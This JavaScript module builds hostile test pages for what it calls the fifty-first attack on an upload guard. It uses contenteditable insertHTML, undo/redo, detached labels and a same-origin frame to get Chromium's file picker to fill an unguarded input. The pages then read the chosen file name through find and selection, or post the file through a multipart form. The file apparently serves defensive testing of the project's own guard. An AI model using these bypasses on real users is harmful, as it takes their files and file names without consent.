// Hostile pages for the fifty-first attack on the upload guard: the editing
// guard as it was then (insertions.js editingGuarded, since replaced by
// guard.js onHistory: before every execCommand it remembered the file inputs
// then in its document and held back every one remembered). Chromium's own picker is opened as in attacks 44-50's
// labeldeep (a span deep inside a DETACHED label holding a file input i,
// clicked in the person's click on "#open"); the page then gets i connected,
// and drawn, some way the guards miss, and reads the name Chromium draws
// (attack 48's findsel). A name learnt goes up as a text note "leak-….txt".
// Served by server.mjs at /attack51-…; tests: attack51.test.mjs.

import { findSelection, leakNote as leak, attackPages, browsersOwnPick, pickerWaysPage } from './uploads.mjs';


const findsel = (why) => findSelection(why);

const DEEP = "<span>".repeat(71) + 'x' + "</span>".repeat(71);

/**
 * The label (i and the deep span) is MADE by the browser's editing: execCommand('insertHTML') parses it into a
 * contenteditable div (it is not in the document before that command, so editingGuarded does not remember it, and no
 * wrapped insertion call is given it). The page then takes the label out with a plain script call (`remove`), so it
 * is not in the document at any later execCommand either. In the person's click the deep span is clicked: Chromium's
 * picker fills the detached i, unheard. Then `back` (execCommand undo/redo…) lets the editing put the SAME nodes back.
 */
const insertPick = (back, ceCss = 'width:600px', take = 'l.remove();') => `
      ${leak}
      const ce = document.createElement('div'); ce.contentEditable = 'true'; ce.style.cssText = ${JSON.stringify(ceCss)};
      ce.append('a');
      document.body.append(ce);
      ce.focus(); const s = getSelection(); s.collapse(ce, 1);
      const ok0 = document.execCommand('insertHTML', false, '<label id="lab51"><input type="file" name="photo"></label>');
      const l = document.getElementById('lab51'); const i = l && l.querySelector('input');
      const x = document.createElement('input'); let t = x; x.addEventListener('click', () => { x.type = 'hidden'; }); t.textContent = 'x'; l.append(x);
      note('insertHTML ' + ok0 + ' label ' + !!l + ' i ' + !!i + ' t ' + (t && t.localName));
      ${take}
      note('after take: l connected ' + (l && l.isConnected) + ', i connected ' + (i && i.isConnected));
      i.addEventListener('change', () => { note('change'); try { ${back} } catch (e) { note('threw ' + e.name + ' ' + e.message); } });
      document.getElementById('open').addEventListener('click', () => { try { t.click(); } catch (e) { note('click threw ' + e.name); } });`;

/**
 * insertPick with the label taken out INSIDE the insertHTML call, by the page's own `input` listener on the editing
 * host (fired before execCommand returns): the look after the command (insertions.js editedIn) finds no file input.
 */
const listenerPick = (back) => `
      ${leak}
      const ce = document.createElement('div'); ce.contentEditable = 'true'; ce.style.cssText = 'width:600px';
      ce.append('a');
      document.body.append(ce);
      ce.focus(); const s = getSelection(); s.collapse(ce, 1);
      let l = null;
      ce.addEventListener('input', () => { l = document.getElementById('lab51'); if (l) l.remove(); }, { once: true });
      const ok0 = document.execCommand('insertHTML', false, '<label id="lab51"><input type="file" name="photo"></label>');
      const i = l && l.querySelector('input');
      const x = document.createElement('input'); let t = x; x.addEventListener('click', () => { x.type = 'hidden'; }); t.textContent = 'x'; l.append(x);
      note('insertHTML ' + ok0 + ' label ' + !!l + ' connected ' + (l && l.isConnected));
      i.addEventListener('change', () => { note('change'); try { ${back} } catch (e) { note('threw ' + e.name + ' ' + e.message); } });
      document.getElementById('open').addEventListener('click', () => { try { t.click(); } catch (e) { note('click threw ' + e.name); } });`;

const show = (why) => `note('i connected ' + i.isConnected); ce.contentEditable = 'false'; getSelection().removeAllRanges(); i.style.width = '600px'; ${findsel(why)}`;

const HTML_WAYS = {
  // listenerPick (the label taken out by the page's input listener inside insertHTML), then undo and redo.
  insertlistener: listenerPick(`ce.focus(); const u = document.execCommand('undo'); const r = document.execCommand('redo'); note('undo ' + u + ' redo ' + r); ${show('insertlistener')}`),
  // insertPick, then undo and redo: the redo of the insertHTML re-inserts the very label (and the filled i).
  insertredo: insertPick(`ce.focus(); const u = document.execCommand('undo'); const r = document.execCommand('redo'); note('undo ' + u + ' redo ' + r); ${show('insertredo')}`),
  // the same, only redo after two undos (an extra edit first)
  insertredo2: insertPick(`ce.focus(); const u = document.execCommand('undo'); note('undo ' + u + ' i ' + i.isConnected); const r = document.execCommand('redo'); note('redo ' + r); ${show('insertredo2')}`, 'width:600px', 'l.remove(); ce.focus();'),
  // insertPick with the label taken out by Range.deleteContents (a script call), then undo+redo.
  insertrange: insertPick(`ce.focus(); document.execCommand('undo'); document.execCommand('redo'); ${show('insertrange')}`, 'width:600px', 'const rr = document.createRange(); rr.selectNode(l); rr.deleteContents();'),
  // insertPick, the label taken out by l.remove(), then only undo (does undo of the insert put anything back?)
  insertundo: insertPick(`ce.focus(); document.execCommand('undo'); ${show('insertundo')}`),
  // insertredo out of sight (attack 48's findquiet: fixed, 1px high, opacity 0.01), the div removed after.
  insertquiet: insertPick(`ce.focus(); document.execCommand('undo'); document.execCommand('redo'); ce.contentEditable = 'false'; getSelection().removeAllRanges(); ${findsel('insertquiet')} ce.remove();`, 'opacity:0.01;height:1px;overflow:hidden;position:fixed;bottom:0;left:0;width:600px'),
  // the bytes: insertredo with the div in a multipart form, posted natively by a click on its submit button after redo.
  insertbutton: insertPick(`ce.focus(); document.execCommand('undo'); document.execCommand('redo'); ce.contentEditable = 'false'; note('redo i connected ' + i.isConnected + ' in form ' + (i.form === f)); f.querySelector('button').click();`, 'width:600px', "l.remove(); const f = document.createElement('form'); f.method = 'post'; f.enctype = 'multipart/form-data'; f.action = '/upload'; document.body.append(f); f.append(ce, Object.assign(document.createElement('button'), { type: 'submit', textContent: 'go' }));"),
  // attack 50's undoplain in a same-origin frame made in the same task, through the frame's own execCommand (is the
  // frame's realm wrapped before its first execCommand?).
  framedelete: `
      ${leak}
      const fr = document.createElement('iframe'); fr.style.cssText = 'width:700px;height:200px'; document.body.append(fr);
      const w = fr.contentWindow, d = fr.contentDocument;
      const ce = d.createElement('div'); ce.contentEditable = 'true'; ce.style.width = '600px';
      const l = d.createElement('label'); const i = d.createElement('input'); i.type = 'file'; i.name = 'photo';
      const x = d.createElement('input'); let t = x; x.addEventListener('click', () => { x.type = 'hidden'; }); t.textContent = 'x';
      l.append(i, x); ce.append('a', l, 'b'); d.body.append(ce);
      ce.focus(); const r = d.createRange(); r.selectNode(l); const s = w.getSelection(); s.removeAllRanges(); s.addRange(r);
      const del = w.Document.prototype.execCommand.call(d, 'delete');
      note('frame delete ' + del + ' l connected ' + l.isConnected + ' wrapped? ' + /native code/.test(String(w.Document.prototype.execCommand)));
      i.addEventListener('change', () => { note('change'); try { ce.focus(); const u = w.Document.prototype.execCommand.call(d, 'undo'); note('undo ' + u + ' i ' + i.isConnected); ce.contentEditable = 'false'; w.getSelection().removeAllRanges();
        const hit = w.find('.jpg'); const sel = w.getSelection(); sel.modify('move', 'backward', 'lineboundary'); sel.modify('extend', 'forward', 'lineboundary'); const got = String(sel); note('framedelete ' + hit + ' ' + JSON.stringify(got)); if (/jpg/i.test(got)) leak(got, 'framedelete'); } catch (e) { note('threw ' + e.name + ' ' + e.message); } });
      document.getElementById('open').addEventListener('click', () => { try { t.click(); } catch (e) { note('click threw ' + e.name); } });`,
  // findsel for reference (held by the survey).
  findsel: browsersOwnPick(`document.body.replaceChildren(i); i.style.width = '600px'; ${findsel('findsel')}`, { before: leak }),
};
const { names: PICKER_WAYS, page: picker } = pickerWaysPage(HTML_WAYS);
export { PICKER_WAYS };
export const attack51Page = attackPages(51, picker, {});
